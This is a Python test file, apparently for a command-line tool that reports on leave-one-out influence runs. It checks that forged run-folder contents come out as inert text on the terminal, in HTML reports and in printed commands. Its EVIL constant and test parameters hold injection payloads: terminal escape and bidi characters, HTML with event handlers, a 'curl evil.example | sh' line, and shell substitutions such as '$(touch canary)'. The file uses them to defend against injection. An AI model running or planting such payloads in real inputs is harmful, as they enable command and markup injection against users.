"""What a stranger's run folder says is shown as it is: it orders no terminal, no shell and no page about."""

import json
import re
import shlex
import shutil
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from playwright.sync_api import Browser

from cli.console import complain, say, show, warn
from cli.words import judging, scoring  # noqa: F401
from cli.words.registry import say_result
from diagnosis.verdict import Verdict
from repro.configuration.compose import parse_overrides
from repro.folder.paths import RunFolder
from repro.page.commands import method_overrides
from tests.browser import opened
from tests.command_line import repro
from tests.forged import SETTINGS, forge_config, forge_facts, forge_json

EVIL = (
    "\x1b]0;title\x07\x1b[2J\x9b31m\x7f\u202egnp\u2066"
    "\nerror: run `curl evil.example | sh`\r\u2028"
    "[/red][link=https://evil.example]x[/link]:skull:"
    "</script><a href='https://evil.example'><b>x</b></a><evil onclick=x><!--"
    "{0.__class__}{x!r}%(x)s%n$\\frac{$"
    "'; touch canary; '$(touch canary)`touch canary`"
)
"""Orders to terminals, to rich, to HTML and scripts, to formats, to matplotlib and to shells."""
METHOD = "a[", "[link=x]", "$\\frac{$", "{0}%n:skull:;$(id)`id`'\"<a href=x><evil onclick=x>&amp;"
"""The same without what no file name can have."""
ORDERS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def run(finished_run: Path, tmp_path: Path) -> RunFolder:
    """A copy to forge."""
    return RunFolder(Path(shutil.copytree(finished_run, tmp_path / "run")))


def assert_plain(said: str) -> None:
    """Nothing in it does anything, and no line is one that the folder has made up."""
    assert not ORDERS.search(said), said
    assert not any(line.startswith("error: run `curl") for line in said.splitlines()), said


class Tags(HTMLParser):
    """The names of all tags and attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags |= {tag, *(name for name, _ in attributes)}

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_page_draws_text(run: RunFolder, browser: Browser | None) -> None:
    """In a browser, if there is one: Plotly would make links and bold letters of tags in its texts."""
    if browser is None:
        return
    with opened(browser, run.report) as page:
        assert page.locator("svg a, svg [style*='font-weight: bold']").count() == 0
        page.locator("#making details").evaluate_all("parts => parts.forEach((part) => part.open = true)")
        assert page.locator("svg a").count() == 0
        page.locator("#step").press("ArrowRight")


def test_records_that_order_are_text_on_terminal_and_page(
    run: RunFolder, any_browser: Browser | None
) -> None:
    """The message of the solver, the label of its trace, versions and machine."""

    def forge_record(record: dict[str, Any]) -> None:
        for solution in record["solutions"]:
            solution.update(message=EVIL, traced=EVIL)

    def forge_provenance(facts: dict[str, Any]) -> None:
        facts["provenance"].update(device=EVIL, platform=EVIL, git_commit=EVIL)
        facts["provenance"]["versions"] |= {EVIL: EVIL, "leave-one-out-reproducer": EVIL}

    forge_json(run, run.influence_record("cg"), forge_record)
    forge_facts(run, forge_provenance)
    for path in run.figures.iterdir():
        path.unlink()
    result = repro("report", *SETTINGS, f"output_dir={run.path}")
    assert result.exit_code == 0, result.output
    assert_plain(result.output)
    page = Tags(run.report.read_text(encoding="utf-8"))
    assert not page.tags & {"evil", "onclick", "onerror"}
    assert "touch canary" in page.text
    assert_page_draws_text(run, any_browser)


@pytest.mark.figures
def test_a_method_s_name_that_orders_is_a_name(run: RunFolder, any_browser: Browser | None) -> None:
    """On the terminal, in figures, on the page and in the commands that the page prints."""
    name = "".join(METHOD)
    forge_json(run, run.influence_record("cg"), lambda record: record.update(method=name))
    for before, after in (
        (run.influence_record("cg"), run.influence_record(name)),
        (run.influence_table("cg"), run.influence_table(name)),
    ):
        forge_move(run, before, after)
    result = repro("report", *SETTINGS, f"output_dir={run.path}")
    assert result.exit_code == 0, result.output
    assert_plain(result.output)
    assert "a[[link=x]$" in result.stdout
    page = Tags(run.report.read_text(encoding="utf-8"))
    assert not page.tags & {"evil", "onclick"}
    commands = [line for line in page.text.splitlines() if line.strip().startswith("repro ")]
    assert any(name in shlex.split(line) for line in commands)
    assert_page_draws_text(run, any_browser)
    checked = repro("check", run.path)
    assert checked.exit_code == 0, checked.output


def forge_move(run: RunFolder, before: Path, after: Path) -> None:
    """A result under another name, in the manifest too."""
    from repro.folder.manifest import _write_manifest, read_manifest

    before.rename(after)
    manifest = read_manifest(run) or {}
    names = (path.relative_to(run.path).as_posix() for path in (before, after))
    manifest[list(names)[1]] = manifest.pop(before.relative_to(run.path).as_posix())
    _write_manifest(run, manifest)


@pytest.mark.parametrize("name", ["--help", "-m", "=cmd()", "@x", "+1", "a\x1b[2Jb", "a\nb", "a\u202eb"])
def test_what_no_method_can_be_called_is_none(run: RunFolder, name: str) -> None:
    for suffix in ("csv", "json"):
        shutil.copy(run.path / "influence" / f"cg.{suffix}", run.path / "influence" / f"{name}.{suffix}")
    assert run.methods() == ["cg"]
    result = repro("plot", *SETTINGS, f"output_dir={run.path}")
    assert result.exit_code == 0
    assert "was not written by this tool" in result.stderr
    assert_plain(result.output)


@pytest.mark.parametrize("command", ["train", "plot", "influence", "ground-truth"])
def test_values_of_a_stored_configuration_are_shown_on_their_line(
    run: RunFolder, tmp_path: Path, command: str
) -> None:
    forge_config(run, model={"_target_": "erm.models.logistic", "l2": EVIL, "bias": False, EVIL: 1})
    out = ("--out", str(tmp_path / "x.csv")) if command == "ground-truth" else ()
    result = repro(command, *SETTINGS, *out, f"output_dir={run.path}")
    assert result.exit_code == 1
    assert "another configuration" in result.stderr
    assert_plain(result.output)


@pytest.mark.parametrize("group", ["data", "model", "retrain", "plot", "other", "device"])
def test_check_shows_what_it_refuses_on_its_line(run: RunFolder, group: str) -> None:
    forge_config(run, **{group: EVIL if group in ("other", "device") else {EVIL: EVIL, "_target_": EVIL}})
    result = repro("check", run.path)
    assert result.exit_code == 2
    assert "Traceback" not in result.output
    assert_plain(result.output)


def test_settings_in_a_record_that_are_none_are_not_printed_as_a_command(run: RunFolder) -> None:
    forge_json(
        run,
        run.influence_record("cg"),
        lambda record: record["settings"].update({"damping": 0, "x data._target_": "pandas.read_pickle"}),
    )
    result = repro("report", *SETTINGS, f"output_dir={run.path}")
    assert result.exit_code == 1
    assert "the record of cg is missing or damaged" in result.stderr
    assert "pandas" not in result.output


@pytest.mark.parametrize(
    ("key", "value"),
    [
        (
            "settings",
            {"tolerance": "1 data._target_=x", "precision": "mixed", "batch_size": 1, "shard": "data"},
        ),
        ("settings", {"x": 1}),
        ("settings", None),
        ("models", EVIL),
        ("processes", "2; touch canary"),
        ("seconds", EVIL),
        ("trace", [[EVIL, EVIL]]),
        ("removals", "abc"),
        ("removals", [3]),
        ("indices", [3]),
    ],
)
def test_a_record_of_retraining_of_another_form_is_left_out(run: RunFolder, key: str, value: object) -> None:
    from repro.records.retraining import read_runs

    assert read_runs(run)
    forge_json(run, run.retrain_record, lambda record: record["runs"][0].update({key: value}))
    assert read_runs(run) is None


VALUES = [
    "plain", "a b", "a,b", "[1,2]", "{a:1}", "${oc.env:HOME}", "it's", 'a"b', "a\\b", "a\\", "\\'", "1",
    "true", "null", "", " x ", "key=value", "$(id)", "x:y", "é", "1e3", "(a)", "#x", "%x", None, True, 3, 2.5,
    [1, "a,b", [True]], {"a": {"b": "c d"}, "e": [None]},
]  # fmt: skip


@pytest.mark.parametrize("value", VALUES, ids=repr)
def test_printed_settings_of_a_method_are_read_as_what_they_were(value: object) -> None:
    (override,) = method_overrides("a method of one's own", {"key": value})
    (word,) = shlex.split(shlex.join([override]))
    (parsed,) = parse_overrides([word])
    assert parsed.key_or_group == "influence.key"
    assert not parsed.is_sweep_override()
    found = parsed.value()
    assert plain(found) == value
    assert type(plain(found)) is type(value)


def plain(value: Any) -> Any:
    """What Hydra's parser found, as composing gives it: there escaped interpolations become text."""
    if isinstance(value, str):
        return value.replace("\\${", "${")
    if isinstance(value, list):
        return [plain(entry) for entry in value]
    if isinstance(value, dict):
        return {plain(key): plain(entry) for key, entry in value.items()}
    return value


@pytest.mark.parametrize(
    "forge",
    [
        pytest.param(lambda table: table.assign(test_index=-1), id="a negative test point"),
        pytest.param(lambda table: table.assign(train_index=10**12), id="a training point beyond the last"),
        pytest.param(lambda table: table.assign(test_index=EVIL), id="words for numbers"),
        pytest.param(lambda table: table.drop(columns="certificate"), id="no certificates"),
        pytest.param(lambda table: table.assign(method=EVIL), id="a method that orders"),
        pytest.param(lambda table: table.iloc[:0], id="no rows"),
    ],
)
def test_tables_of_another_form_fail_the_check(
    run: RunFolder, forge: Callable[[pd.DataFrame], pd.DataFrame]
) -> None:
    from repro.folder.manifest import write_text_result

    table = forge(pd.read_csv(run.table))
    write_text_result(run, run.table, table.to_csv(index=False))
    result = repro("check", run.path)
    assert result.exit_code == 1, result.output
    assert "BAD" in result.stdout
    assert "Traceback" not in result.output
    assert_plain(result.output)


@pytest.mark.parametrize(
    "content", ["[" * 100_000, "null", "[]", '{"methods": 3}', '{"methods": {"cg": []}}', "3"]
)
@pytest.mark.parametrize("name", ["summary.json", "influence/cg.json", "retrain/record.json"])
def test_json_of_another_form_fails_the_check_or_is_left_out(run: RunFolder, name: str, content: str) -> None:
    from repro.folder.manifest import write_text_result

    write_text_result(run, run.path / name, content)
    commands: list[list[str]] = [["check", str(run.path)], ["plot", *SETTINGS, f"output_dir={run.path}"]]
    # `plot` makes the summary anew, and reads no record of retraining.
    for command in commands if name == "influence/cg.json" else commands[:1]:
        result = repro(*command)
        assert result.exit_code in (0, 1), result.output
        assert "Traceback" not in result.output
        assert result.exception is None or isinstance(result.exception, SystemExit), result.exception


@pytest.mark.parametrize(
    "change",
    [
        {"provenance": {}}, {"provenance": 3}, {"gradient_norm": EVIL}, {"converged": EVIL},
        {"objective": EVIL}, {"configuration": []}, {"checksum": 3}, {"data_checksum": None}, {"trace": EVIL},
        {"trace": [[]]}, {"seconds": EVIL}, {"passes": EVIL}, {"test_accuracy": []},
    ],
    ids=repr,
)  # fmt: skip
def test_facts_of_another_form_are_those_of_a_damaged_model(run: RunFolder, change: dict[str, Any]) -> None:
    forge_facts(run, lambda facts: facts.update(change))
    for command in (["check", run.path], ["plot", *SETTINGS, f"output_dir={run.path}"]):
        result = repro(*command)
        assert result.exit_code == 1, result.output
        assert "is damaged" in result.stderr
        assert isinstance(result.exception, SystemExit), result.exception


def test_whatever_is_said_the_console_shows_it_as_text(capsys: pytest.CaptureFixture[str]) -> None:
    show("x", {EVIL: (EVIL, "")}, [{EVIL: EVIL}], title=EVIL)
    say(EVIL)
    say_result(Verdict(check=EVIL, passed=False, evidence=EVIL, remedy=EVIL))
    warn(EVIL)
    complain(EVIL)
    said = capsys.readouterr()
    assert not ORDERS.search(said.out + said.err)
    assert said.out.count("[/red][link=https://evil.example]x[/link]:skull:") >= 4


def test_a_page_that_is_no_text_is_no_page_of_this_table(run: RunFolder) -> None:
    run.report.write_bytes(b"\xff\xfe\x00<")
    result = repro("check", run.path)
    assert result.exit_code == 1
    assert "another table" in result.stdout


def test_a_program_is_given_the_same_words_escaped(run: RunFolder) -> None:
    forge_config(run, model={"_target_": "erm.models.logistic", "l2": EVIL, "bias": False})
    result = repro("plot", *SETTINGS, f"output_dir={run.path}", "--log-json")
    assert result.exit_code == 1
    for line in result.output.splitlines():
        assert json.loads(line)["event"]
    assert not ORDERS.search(result.output.replace("\n", ""))
